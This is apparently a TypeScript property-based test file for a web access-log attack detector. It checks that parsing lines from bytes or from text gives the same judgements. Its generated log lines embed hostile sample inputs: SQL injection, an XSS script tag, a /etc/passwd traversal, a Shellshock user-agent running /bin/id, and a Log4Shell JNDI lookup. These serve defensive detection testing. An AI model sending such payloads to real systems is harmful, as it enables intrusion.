import { createEngine } from '@vigil/detection';
import { createLineParser } from '@vigil/detection/formats/line-parser';
import { array, assert, asyncProperty, constantFrom, nat, oneof, tuple } from 'fast-check';
import { expect, it } from 'vitest';
import { lineBounds } from '../intake/split-lines.ts';
import { logLine } from '../testing/line-batch.ts';
import { createMemoryWindowStore } from '../windows/memory-window-store.ts';
import { LineJudge, type Judgements } from './judge-lines.ts';

const engine = createEngine();

/** Judges lines with their bytes or from their texts alone; what is told of each, and what the windows took in. */
async function judged(lines: readonly string[], withBytes: boolean) {
  const bytes = Buffer.from(lines.join('\n'), 'latin1');
  const bounds = lineBounds(bytes, lines.length);
  const textAt = (line: number): string => lines[line]!;
  const parser = createLineParser();
  const windows = createMemoryWindowStore();
  const judge = new LineJudge(engine);
  judge.read({ count: lines.length, textAt, ...(withBytes ? { bytes, bounds } : {}) }, parser);
  const deltas = judge.windows.deltas();
  return { deltas, judgements: judge.conclude(await windows.apply('b', deltas)) };
}

const told = ({ requests, lineCount, assessments, features, rejections, failures }: Judgements) => ({
  lineCount,
  assessments,
  features,
  rejections,
  failures,
  requests: new Map([...assessments.keys()].map((line) => [line, requests.get(line)])),
});

async function expectAlike(lines: readonly string[]): Promise<Judgements> {
  const [one, other] = await Promise.all([judged(lines, true), judged(lines, false)]);
  expect(one.deltas).toEqual(other.deltas);
  expect(told(one.judgements)).toEqual(told(other.judgements));
  return one.judgements;
}

const TARGETS = [
  '/',
  '/p/lamp-12?page=2&sort=price',
  '/img/a.webp?v=0c13ea',
  '/search?q=oak+table%20top',
  '/account/login',
  '/session?pass=x&user=ann',
  '/A1b2C3d4E5f6G7h8',
  '/?q=%27+or+1%3D1--',
  '/?q=<script>alert(1)</script>',
  '/a/../../etc/passwd',
  '/wp-login.php',
  '/caf\xc3\xa9',
  `/${'deep/'.repeat(30)}`,
  `/${'long'.repeat(30)}?x=1`,
];
const AGENTS = [
  'Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0',
  'curl/8.5.0',
  '-',
  'sqlmap/1.7',
  '() { :;}; /bin/id',
  '',
];
const REFERERS = [
  '-',
  '',
  'https://h.example/p/1?a=b',
  'https://h.example/search?q=o%27neill+jacket',
  'http://h.example/?q=%27%20union%20select%201',
  'android-app://x/',
];

const line = tuple(
  constantFrom('198.51.100.7', '198.51.100.8', '2001:db8::7', '-'),
  constantFrom('GET', 'GET', 'POST', 'HEAD', 'PUT'),
  oneof(
    constantFrom(...TARGETS),
    nat(60).map((number) => `/missing/${number}.png`),
  ),
  constantFrom(200, 302, 401, 404, 500),
  constantFrom(...REFERERS),
  constantFrom(...AGENTS),
  constantFrom('-', '-', 'ann', "o'neil", '${jndi:ldap://a.example/b}'),
  constantFrom('', '', ' "10.0.0.1, 10.0.0.2"', ' 0.004 "a;b"', ' "${jndi:ldap://a.example/b}"'),
).map(
  ([ip, method, target, status, referer, agent, user, rest]) =>
    `${ip} - ${user} [02/Mar/2026:12:00:00 +0000] "${method} ${target} HTTP/1.1" ${status} 512 "${referer}" "${agent}"${rest}`,
);

it('judges lines by their bytes as it does by their texts, and clients by all of their lines', async () => {
  const seen = new Set<string>();
  await assert(
    asyncProperty(array(line, { minLength: 1, maxLength: 150, size: 'max' }), async (lines) => {
      const { assessments } = await expectAlike(lines);
      for (const { matchedRules } of assessments.values()) for (const rule of matchedRules) seen.add(rule);
    }),
    { numRuns: 100 },
  );
  // Behaviour of clients most of whose lines are plain.
  expect([...seen]).toEqual(expect.arrayContaining(['ATTACKING_CLIENT', 'HIGH_ERROR_RATE']));
});

it('reads plain lines as such, and has the request of one that its client makes an attack', async () => {
  const lines = [logLine('/'), ...Array.from({ length: 60 }, (_, index) => logLine(`/x${index}`, { status: 404 }))];
  const { requests, assessments } = await expectAlike(lines);
  expect(requests.get(0)).toMatchObject({ target: '/' });
  expect(assessments.get(60)?.severity).toBe('MEDIUM');
  const { judgements } = await judged([logLine('/'), logLine('/p?a=b'), logLine('/p')], true);
  expect([...judgements.requests.keys()]).toEqual([0]);
});

it('reads a line as a plain one whose referer had to be looked into and shows nothing', async () => {
  const search = logLine('/').replace('"-"', '"https://h.example/search?q=o%27neill+jacket"');
  expect(search).toContain('jacket');
  const { judgements } = await judged([logLine('/'), search, search], true);
  expect([...judgements.requests.keys()]).toEqual([0]);
});

it.each(['<190>Mar  2 12:00:00 web1 nginx[7]: ', '[pod/web-5d7/nginx] 2026-03-02T12:00:00.123456789Z '])(
  'reads lines that stand behind %s as plain ones, and has the request of one that its client makes an attack',
  async (before) => {
    const missing = Array.from({ length: 60 }, (_, index) => logLine(`/x${index}`, { status: 404 }));
    const { requests, assessments } = await expectAlike([logLine('/'), ...missing].map((text) => before + text));
    expect(requests.get(0)).toMatchObject({ target: '/' });
    expect(assessments.get(60)?.severity).toBe('MEDIUM');
    const plain = [logLine('/'), logLine('/p?a=b'), logLine('/p')].map((text) => before + text);
    const { judgements } = await judged(plain, true);
    expect([...judgements.requests.keys()]).toEqual([0]);
  },
);
